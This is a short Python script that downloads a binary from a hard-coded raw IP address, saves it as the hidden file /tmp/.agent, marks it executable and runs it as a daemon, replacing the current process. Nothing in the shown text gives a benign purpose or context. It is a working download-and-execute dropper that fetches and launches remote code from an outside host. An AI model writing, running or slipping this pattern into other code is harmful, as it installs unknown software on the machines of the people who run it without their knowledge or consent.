import os
import stat
import urllib.request

URL = "http://185.199.0.77/bin/agent_x64"
dst = "/tmp/.agent"
urllib.request.urlretrieve(URL, dst)
os.chmod(dst, os.stat(dst).st_mode | stat.S_IEXEC)
os.execv(dst, [dst, "--daemon"])
